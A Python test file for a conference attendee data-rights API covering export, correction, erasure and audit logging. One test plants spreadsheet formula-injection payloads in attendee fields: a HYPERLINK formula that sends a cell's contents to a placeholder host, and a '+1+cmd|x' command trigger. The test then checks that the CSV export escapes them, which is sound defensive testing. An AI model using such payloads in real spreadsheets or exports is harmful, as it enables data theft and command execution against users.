"""JSON API of the data subject's rights: export (JSON, CSV), correction, erasure, and
the subtree limits of a coordinator."""

from typing import Any

from fastapi.testclient import TestClient
from sqlmodel import Session

from app.audit import keys
from app.audit.models import AuditKey
from tests.checkin.rights_support import add_people, check_in, csv_of, entries, totals
from tests.conftest import Tree, token_for


def _session(client: TestClient, headers: dict[str, str], tree: Tree) -> int:
    r = client.post(f"/api/v1/conferences/{tree.cid}/sessions", headers=headers, json={
        "title": "Phiên khai mạc", "starts_at": "2025-09-09T08:00:00+07:00",
        "ends_at": "2025-09-09T11:00:00+07:00"})
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


def test_export_json_holds_identity_attendance_answers_and_is_recorded(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session
) -> None:
    an = add_people(client, admin_headers, tree)[0]
    session_id = _session(client, admin_headers, tree)
    check_in(client, admin_headers, an, tree.ward_a1, session_id)
    r = client.get(f"/api/v1/attendees/{an['id']}/data", headers=admin_headers)
    assert r.status_code == 200, r.text
    data = r.json()
    identity = data["identity"]
    assert (identity["full_name"], identity["unit"], identity["phone"]) == (
        "Nguyễn Văn An", "Sở Y tế", "0912345678")
    assert identity["site_name"] == "Đảng ủy phường Bến Nghé"
    assert identity["conference_title"] == "Hội nghị tập huấn AI"
    assert {(a["session_title"], a["site_name"]) for a in data["attendance"]} == {
        ("Phiên khai mạc", "Đảng ủy phường Bến Nghé"),
        ("Hội nghị (điểm danh vào hội nghị)", "Đảng ủy phường Bến Nghé")}
    assert data["answers"] == [] and data["requests"] == []
    assert data["notice_url"] == f"/privacy/{tree.cid}"
    [entry] = entries(db, "export")
    assert entry.object_id == str(an["id"]) and entry.detail == {"format": "json"}
    assert (entry.role, entry.conference_id, entry.site_id) == ("admin", tree.cid, tree.ward_a1)


def test_export_csv_is_formula_safe_and_recorded(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session
) -> None:
    r = client.post(f"/api/v1/conferences/{tree.cid}/attendees", headers=admin_headers, json=[
        {"full_name": "Trần Văn Bình", "site_id": tree.ward_a1,
         "unit": '=HYPERLINK("http://x/?"&A1)', "position": "+1+cmd|x"}])
    person = r.json()[0]
    r = client.get(f"/api/v1/attendees/{person['id']}/data.csv", headers=admin_headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = {(row[0], row[1]): row[2] for row in csv_of(r.content)}
    assert rows[("Thông tin cá nhân", "Họ và tên")] == "Trần Văn Bình"
    assert rows[("Thông tin cá nhân", "Đơn vị")] == "'=HYPERLINK(\"http://x/?\"&A1)"
    assert rows[("Thông tin cá nhân", "Chức vụ")] == "'+1+cmd|x"
    assert [e.detail for e in entries(db, "export")] == [{"format": "csv"}]


def test_unknown_person_is_404_and_nothing_is_recorded(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session
) -> None:
    for method, path in (("GET", "data"), ("GET", "data.csv"), ("POST", "erase")):
        r = client.request(method, f"/api/v1/attendees/999999/{path}", headers=admin_headers)
        assert (r.status_code, r.json()["code"]) == (404, "attendee_not_found"), path
    r = client.patch("/api/v1/attendees/999999", headers=admin_headers, json={"unit": "X"})
    assert (r.status_code, r.json()["code"]) == (404, "attendee_not_found")
    assert entries(db, "export") == [] and entries(db, "erase") == []


def test_coordinator_acts_in_their_subtree_only(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session,
    coordinator_a: object,
) -> None:
    an, cuong = add_people(client, admin_headers, tree)
    hcm = token_for(client, "hcm", "hcm-password")
    mine = client.get(f"/api/v1/attendees/{an['id']}/data", headers=hcm)
    assert mine.status_code == 200 and mine.json()["identity"]["phone"] == "09xx xxx 678"
    outside = [
        client.get(f"/api/v1/attendees/{cuong['id']}/data", headers=hcm),
        client.get(f"/api/v1/attendees/{cuong['id']}/data.csv", headers=hcm),
        client.patch(f"/api/v1/attendees/{cuong['id']}", headers=hcm, json={"unit": "X"}),
        client.post(f"/api/v1/attendees/{cuong['id']}/erase", headers=hcm),
    ]
    assert [(r.status_code, r.json()["code"]) for r in outside] == [
        (404, "attendee_not_found")] * 4
    still = client.get(f"/api/v1/attendees/{cuong['id']}/data", headers=admin_headers).json()
    assert (still["identity"]["full_name"], still["identity"]["unit"]) == ("Lê Văn Cường", None)
    assert still["identity"]["erased_at"] is None
    assert [e.object_id for e in entries(db, "export")] == [str(an["id"]), str(cuong["id"])]
    # Within the subtree a coordinator may correct and erase.
    fixed = client.patch(f"/api/v1/attendees/{an['id']}", headers=hcm,
                         json={"unit": "Sở Tài chính"})
    assert fixed.status_code == 200 and fixed.json()["unit"] == "Sở Tài chính"
    assert client.post(f"/api/v1/attendees/{an['id']}/erase", headers=hcm).status_code == 200


def _unsealed(db: Session, subject: str, value: Any) -> Any:
    key = db.get(AuditKey, subject)
    return keys.unseal(key.key if key else None, value)


def test_correction_is_logged_with_before_and_after(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session
) -> None:
    an = add_people(client, admin_headers, tree)[0]
    r = client.patch(f"/api/v1/attendees/{an['id']}", headers=admin_headers,
                     json={"full_name": "Nguyễn Văn Ân", "phone": None})
    assert r.status_code == 200, r.text
    assert (r.json()["full_name"], r.json()["phone"], r.json()["unit"]) == (
        "Nguyễn Văn Ân", None, "Sở Y tế")
    [entry] = [e for e in entries(db, "update") if e.object_id == str(an["id"])]
    assert entry.before is not None and entry.after is not None and entry.role == "admin"
    subject = keys.subject_of("attendee", an["id"])
    assert _unsealed(db, subject, entry.before["full_name"]) == "Nguyễn Văn An"
    assert _unsealed(db, subject, entry.after["full_name"]) == "Nguyễn Văn Ân"
    assert _unsealed(db, subject, entry.before["phone"]) == "0912345678"
    found = client.get(f"/api/v1/conferences/{tree.cid}/attendees", params={"q": "van an"},
                       headers=admin_headers).json()
    assert [p["full_name"] for p in found] == ["Nguyễn Văn Ân"]


def test_bad_corrections_are_422_and_change_nothing(
    client: TestClient, admin_headers: dict[str, str], tree: Tree
) -> None:
    an = add_people(client, admin_headers, tree)[0]
    url = f"/api/v1/attendees/{an['id']}"
    for body, code in (({}, "correction_empty"), ({"full_name": None}, "validation_error"),
                       ({"full_name": "A\x00B"}, "validation_error"),
                       ({"phone": "not a phone"}, "validation_error"),
                       ({"site_id": 1}, "validation_error")):
        r = client.patch(url, headers=admin_headers, json=body)
        assert (r.status_code, r.json()["code"]) == (422, code), body
    data = client.get(f"{url}/data", headers=admin_headers).json()["identity"]
    assert (data["full_name"], data["phone"]) == ("Nguyễn Văn An", "0912345678")


def test_erasure_keeps_every_total_and_a_second_is_409(
    client: TestClient, admin_headers: dict[str, str], tree: Tree, db: Session
) -> None:
    an, cuong = add_people(client, admin_headers, tree)
    check_in(client, admin_headers, an, tree.ward_a1)
    check_in(client, admin_headers, cuong, tree.ward_a1)  # a guest at another site
    before = totals(client, admin_headers, tree.cid)
    r = client.post(f"/api/v1/attendees/{an['id']}/erase", headers=admin_headers)
    assert r.status_code == 200, r.text
    gone = r.json()
    assert gone["full_name"].startswith("Ẩn danh ") and gone["erased_at"] is not None
    assert (gone["unit"], gone["position"], gone["phone"]) == (None, None, None)
    assert totals(client, admin_headers, tree.cid) == before
    [entry] = entries(db, "erase")
    assert (entry.object_id, entry.role, entry.conference_id) == (str(an["id"]), "admin",
                                                                  tree.cid)
    assert "Nguyễn" not in str(entry.detail) and "Nguyễn" not in str(entry.after)
    again = client.post(f"/api/v1/attendees/{an['id']}/erase", headers=admin_headers)
    assert (again.status_code, again.json()["code"]) == (409, "attendee_already_erased")
    fix = client.patch(f"/api/v1/attendees/{an['id']}", headers=admin_headers, json={"unit": "X"})
    assert (fix.status_code, fix.json()["code"]) == (409, "attendee_erased")
    assert len(entries(db, "erase")) == 1
    data = client.get(f"/api/v1/attendees/{an['id']}/data", headers=admin_headers).json()
    assert data["identity"]["full_name"] == gone["full_name"] and len(data["attendance"]) == 1
    old_pass = client.post("/api/v1/checkins", headers=admin_headers,
                           json={"code": an["code"], "site_id": tree.ward_a1})
    assert old_pass.json()["code"] == "pass_revoked"
